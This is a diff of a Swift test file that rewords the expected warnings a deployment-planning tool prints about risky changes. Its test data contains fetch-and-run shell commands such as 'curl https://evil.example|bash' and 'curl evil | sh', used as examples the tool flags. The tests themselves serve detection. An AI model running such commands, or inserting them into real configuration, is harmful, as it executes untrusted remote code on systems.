@@ -43,8 +43,8 @@ struct NewPlanTests {
   }
 
   private static let programs = [
-    "  ⚠ a program newly carries out restart-services at madrid: [bash, -c, 'curl https://evil.example|bash']",
-    "  ⚠ a program newly checks restart-services at madrid: [evil-check]",
+    "  ⚠ a program now carries out restart-services at madrid: [bash, -c, 'curl https://evil.example|bash']",
+    "  ⚠ a program now checks restart-services at madrid: [evil-check]",
     "  ⚠ a program is asked for the password of madrid: [sh, -c, 'curl evil | sh']",
   ]
 
@@ -80,8 +80,8 @@ struct NewPlanTests {
     let shown = lines(compared)
     for line in Self.programs + [
       "  + " + Self.automation,
-      "  ⚠ a program newly carries out restart-services everywhere: [ssh, '{server.address}', restart]",
-      "  ⚠ a program newly checks restart-services everywhere: [ssh, '{server.address}', check]",
+      "  ⚠ a program now carries out restart-services everywhere: [ssh, '{server.address}', restart]",
+      "  ⚠ a program now checks restart-services everywhere: [ssh, '{server.address}', check]",
       "  + automation: restart-services [ssh, '{server.address}', restart]; restart-services check "
         + "[ssh, '{server.address}', check]; restart-services timeout 15m; back-up-server operator",
     ] {
@@ -107,7 +107,7 @@ struct NewPlanTests {
       DiffSamples.base)
     #expect(
       lines(compared).contains(
-        "  ⚠ a program newly checks restart-services everywhere: [ssh, '{server.address}', check]"))
+        "  ⚠ a program now checks restart-services everywhere: [ssh, '{server.address}', check]"))
   }
 
   @Test("A program that a site keeps people from running runs once the site is silent")
@@ -143,7 +143,7 @@ struct NewPlanTests {
       "  ⚠ every wait passes at 1%; the standard is 98%",
       "  ⚠ every wait passes once the share held for 10m; the standard is 1h",
       "  ⚠ every wait goes on at the deadline (40d) with 1% instead of holding",
-      "  ⚠ every wait counts clients seen within 2d; the standard is 30d: who was away longer is not waited for",
+      "  ⚠ every wait counts clients seen within 2d; the standard is 30d: clients that were away longer are not waited for",
     ] {
       #expect(shown.contains(line), "\(line)\n\(shown.joined(separator: "\n"))")
     }
